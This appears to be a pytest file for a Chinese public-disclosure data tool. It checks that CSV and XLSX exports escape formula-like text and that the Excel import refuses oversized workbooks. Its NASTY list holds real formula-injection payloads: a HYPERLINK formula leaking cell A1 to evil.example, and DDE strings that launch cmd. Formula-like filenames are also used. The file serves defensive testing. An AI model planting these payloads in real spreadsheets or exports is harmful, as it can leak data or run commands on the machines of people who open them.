"""Formula injection: text that starts like a formula (= + - @, tab, CR) is exported as text by every
CSV/XLSX writer and comes back unchanged through the desk's import (issue 16 item 4)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from gongkai.desk import synthetic
from gongkai.desk.excel import LEDGER_SHEET, export_ledger, read_ledger
from gongkai.desk.handkept import HEADER_OF
from gongkai.export import to_bytes
from gongkai.spreadsheet import csv_cell, unescape
from gongkai.web import create_app

from .conftest import seed_path

AGENCY = "深圳市南山区教育局"
NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_helper():
    for text in NASTY:
        assert csv_cell(text) == "'" + text and unescape(csv_cell(text)) == text
    assert csv_cell("南山区") == "南山区" and csv_cell(-3) == -3 and csv_cell("") == ""
    assert unescape("'quoted") == "'quoted"  # only exactly the prefix we add is taken off


def _nasty_ledger():
    items = synthetic.generate(AGENCY, range(2025, 2026), len(NASTY), seed=3, as_of=dt.date(2025, 12, 31))
    items = items[: len(NASTY)]
    for (app, _), text in zip(items, NASTY, strict=True):
        app.applicant_id = text
        app.request = text + " 申请公开2024年度预算执行情况"
    return items


def test_desk_export_writes_text_cells_and_reads_back_the_same():
    items = _nasty_ledger()
    data = export_ledger(items, today=dt.date(2025, 12, 31))
    ws = load_workbook(io.BytesIO(data))[LEDGER_SHEET]
    header = [c.value for c in ws[1]]
    id_col, req_col = header.index(HEADER_OF["applicant_id"]) + 1, header.index(HEADER_OF["request"]) + 1
    seen = set()
    for row in range(2, ws.max_row + 1):
        for col in (id_col, req_col):
            cell = ws.cell(row, col)
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            seen.add(cell.value)
    for text in NASTY:
        assert text in seen and text + " 申请公开2024年度预算执行情况" in seen
    assert "<f>" not in _sheet_xml(data)
    back = read_ledger(data, AGENCY)
    # (the import trims every text field, so a leading tab or CR goes as it always did)
    assert sorted(a.applicant_id for a, _ in back) == sorted(t.strip() for t in NASTY)
    want = sorted(t.strip() + " 申请公开2024年度预算执行情况" for t in NASTY)
    assert sorted(a.request for a, _ in back) == want


def _sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_csv_export_saved_as_a_workbook_imports_the_original_text():
    """Someone opens a quoted CSV cell in Excel and saves the sheet: the quote we added is stripped."""
    items = _nasty_ledger()
    wb = load_workbook(io.BytesIO(export_ledger(items, today=dt.date(2025, 12, 31))))
    ws = wb[LEDGER_SHEET]
    header = [c.value for c in ws[1]]
    id_col = header.index(HEADER_OF["applicant_id"]) + 1
    for row in range(2, ws.max_row + 1):
        cell = ws.cell(row, id_col)
        cell.value = csv_cell(cell.value)
        cell.data_type = "s"
        assert cell.value.startswith("'")
    buf = io.BytesIO()
    wb.save(buf)
    back = read_ledger(buf.getvalue(), AGENCY)
    assert sorted(a.applicant_id for a, _ in back) == sorted(t.strip() for t in NASTY)


def test_export_to_bytes_neutralises_csv_and_xlsx():
    columns = [("source", "文件"), ("n", "数")]
    rows = [{"source": t, "n": -5} for t in NASTY]
    text = to_bytes(columns, rows, "csv").decode("utf-8-sig")
    got = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in got] == ["'" + t for t in NASTY]
    assert [r[1] for r in got] == ["-5"] * len(NASTY)  # numbers untouched
    ws = load_workbook(io.BytesIO(to_bytes(columns, rows, "xlsx"))).active
    for i, t in enumerate(NASTY, 2):
        assert (ws.cell(i, 1).data_type, ws.cell(i, 1).value) == ("s", t)
        assert ws.cell(i, 2).value == -5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_api_export_of_an_upload_named_like_a_formula(store, fmt):
    store.users.add("zhang", "正确的密码-42", role="editor")
    client = TestClient(create_app(store=store))
    form = client.get("/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', form).group(1)
    client.post("/login", data={"username": "zhang", "password": "正确的密码-42", "csrf": csrf, "next": "/"})
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/upload").text).group(1)
    name = "=SUM(1+1)*cmd|calc!A0.txt"
    up = client.post(
        "/upload",
        files={"file": (name, seed_path("000").read_bytes())},
        data={"csrf": csrf},
        follow_redirects=False,
    )
    assert up.status_code == 303, up.text[:300]
    resp = client.get("/api/export", params={"format": fmt, "shape": "wide"})
    assert resp.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
        cells = [c for r in rows for c in r if name in c]
        assert cells == ["'" + name], cells
    else:
        ws = load_workbook(io.BytesIO(resp.content)).active
        cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and name in c.value]
        assert [(c.data_type, c.value) for c in cells] == [("s", name)]
        assert "<f>" not in _sheet_xml(resp.content)


# -- the Excel import streams: a small file with millions of cells is refused early (item 5) ---------


def _many_cells(path, rows: int, cols: int, dimension: bool) -> None:
    """A valid .xlsx of rows × cols numbers, written as XML straight into the zip (openpyxl would take
    a minute): ~0.3 MB on disk for two million cells."""
    import zipfile

    from openpyxl import Workbook

    base = io.BytesIO()
    Workbook().save(base)
    row = "<row>" + "<c><v>1</v></c>" * cols + "</row>"
    dim = f'<dimension ref="A1:{_col(cols)}{rows}"/>' if dimension else ""
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info, src.read(info))
                continue
            with out.open("xl/worksheets/sheet1.xml", "w") as f:
                f.write(
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main">' + dim.encode() + b"<sheetData>"
                )
                chunk = (row * 1000).encode()
                for _ in range(rows // 1000):
                    f.write(chunk)
                f.write((row * (rows % 1000)).encode())
                f.write(b"</sheetData></worksheet>")


def _col(n: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(n)


CHILD = """
import sys, time
from gongkai.desk.excel import ExcelImportError, read_ledger
data = open(sys.argv[1], "rb").read()
t = time.perf_counter()
try:
    read_ledger(data, "深圳市南山区教育局")
    print("IMPORTED")
except ExcelImportError as e:
    print(f"{time.perf_counter() - t:.3f}", str(e).replace("\\n", " "), flush=True)
sys.stdin.read()  # stay until the test has read our peak memory
"""


@pytest.mark.parametrize(
    ("rows", "cols", "dimension"),
    [(1_990_000, 1, True), (1_990_000, 1, False), (199_000, 10, False), (1_990, 1_000, False)],
    ids=["tall", "tall-no-dimension", "block", "wide"],
)
def test_two_million_cells_are_refused_within_2s_and_200mb(tmp_path, rows, cols, dimension):
    import os
    import subprocess
    import sys

    path = tmp_path / "big.xlsx"
    _many_cells(path, rows, cols, dimension)
    assert path.stat().st_size < 1_000_000
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
    t0 = time.perf_counter()
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    line = child.stdout.readline().decode()
    # the peak RSS of the child's own program (ru_maxrss would report this test's process, which the
    # child was forked from, as the high-water mark before exec)
    status = Path(f"/proc/{child.pid}/status").read_text()
    peak_kb = int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1))
    child.stdin.close()
    err = child.stderr.read()
    _, code, usage = os.wait4(child.pid, 0)  # its CPU time
    child.returncode = os.waitstatus_to_exitcode(code)
    wall = time.perf_counter() - t0
    assert child.returncode == 0, err.decode()[-2000:]
    seconds, message = line.strip().split(" ", 1)
    assert "已拒绝" in message and ("过多" in message), message
    assert float(seconds) < 2.0, (seconds, message)  # the refusal itself
    assert wall < 10, wall  # the whole child, interpreter and imports included
    assert peak_kb < 200 * 1024, f"{peak_kb // 1024} MB"
    assert usage.ru_utime + usage.ru_stime < 10
    print(
        f"{rows}×{cols}: refused in {seconds} s, child {wall:.2f} s wall, "
        f"{usage.ru_utime + usage.ru_stime:.2f} s CPU, {peak_kb // 1024} MB peak"
    )


def test_check_csv_through_the_cli_quotes_a_file_named_like_a_formula(tmp_path):
    import os
    import subprocess
    import sys

    name = "=SUM(1+1)*cmd.txt"
    (tmp_path / name).write_bytes(seed_path("003").read_bytes())  # a seed with findings: rows
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
    done = subprocess.run(
        [sys.executable, "-m", "gongkai.cli", "check", "--format", "csv", name],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    rows = list(csv.reader(io.StringIO(done.stdout)))[1:]
    assert rows and all(r[0] == "'" + name for r in rows), rows[:3]


# -- the other writers: watch (web and CLI), coverage CSV and its re-import, the audit CSV -------------


def _admin(store) -> tuple[TestClient, str]:
    store.users.add("root", "管理员的密码-0042", role="admin")
    client = TestClient(create_app(store=store))
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    r = client.post("/login", data={"username": "root", "password": "管理员的密码-0042", "csrf": csrf})
    assert r.status_code == 200, r.text[:300]
    return client, csrf


def _nasty_sites(store) -> None:
    """One site per formula-like agency name, each unreachable with a formula-like reason (the reason is
    what a remote server said: not ours to trust either)."""
    ids = store.sites.sync((t, f"http://site{i}.example/", f"site{i}.example") for i, t in enumerate(NASTY))
    for site_id in ids.values():
        store.sites.mark(site_id, "unreachable", NASTY[0], NASTY[1])


def _assert_text_cells(data: bytes, texts: list[str]) -> None:
    ws = load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for r in ws.iter_rows(min_row=2) for c in r if isinstance(c.value, str)}
    for t in texts:
        assert t in cells and cells[t].data_type == "s", (t, cells.get(t))
    assert "<f>" not in _sheet_xml(data)


def test_watch_xlsx_from_the_web_keeps_formula_like_text_as_text(store):
    _nasty_sites(store)
    client, _ = _admin(store)
    for lang, reason in (("zh", NASTY[0]), ("en", NASTY[1])):
        x = client.get("/watch.xlsx", params={"year": 2024, "lang": lang})
        assert x.status_code == 200 and x.content[:2] == b"PK"
        _assert_text_cells(x.content, [*NASTY, reason])


def test_watch_xlsx_from_the_cli_keeps_formula_like_text_as_text(tmp_path):
    import os
    import subprocess
    import sys

    from gongkai.store import Store

    url = f"sqlite:///{tmp_path / 'g.db'}"
    store = Store.open(url)
    _nasty_sites(store)
    store.close()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
    out = tmp_path / "watch.xlsx"
    done = subprocess.run(
        [sys.executable, "-m", "gongkai.cli", "watch", "--year", "2024", "--db", url, "--xlsx", str(out)],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    _assert_text_cells(out.read_bytes(), [*NASTY, NASTY[0]])


def test_coverage_csv_quotes_formula_like_names_and_the_import_takes_them_back(store, tmp_path):
    from openpyxl import Workbook

    from gongkai.ingest import ingest
    from gongkai.store import Store

    ingest([seed_path("001")], store, workers=1)  # a year to cover
    store.reviews.add_expected([{"name": t, "region_code": "", "kind": "department"} for t in NASTY], "test")
    client, _ = _admin(store)
    year = store.reports.rows()[0]["year"]
    exported = client.get("/coverage.csv", params={"year": year})
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1:]
    names = [r[0] for r in rows]
    for t in NASTY:
        assert "'" + t in names and t not in names
    # the exported CSV, or the same opened in a spreadsheet and saved as a workbook, imported elsewhere
    wb = Workbook()
    for r in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))):
        wb.active.append(r)
        for c in wb.active[wb.active.max_row]:
            c.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    for name, data in (("coverage.csv", exported.content), ("coverage.xlsx", buf.getvalue())):
        other = Store.open(f"sqlite:///{tmp_path / name}.db")
        try:
            client2, csrf2 = _admin(other)
            r = client2.post(
                "/coverage/import", files={"file": (name, data)}, data={"csrf": csrf2}, follow_redirects=False
            )
            assert r.status_code == 303, r.text[:500]
            got = {e["name"] for e in other.reviews.expected()}
            # (the import trims every cell, so a leading tab or CR goes as it always did)
            assert {t.strip() for t in NASTY} <= got, got
            assert not [n for n in got if n.startswith("'")]
        finally:
            other.close()


def test_audit_csv_quotes_formula_like_text(store):
    client, _ = _admin(store)
    store.audit.record("root", "desk.register", NASTY[0], None, {"note": NASTY[2]})
    text = client.get("/audit.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    targets = [r[3] for r in rows[1:]]
    assert "'" + NASTY[0] in targets and NASTY[0] not in targets
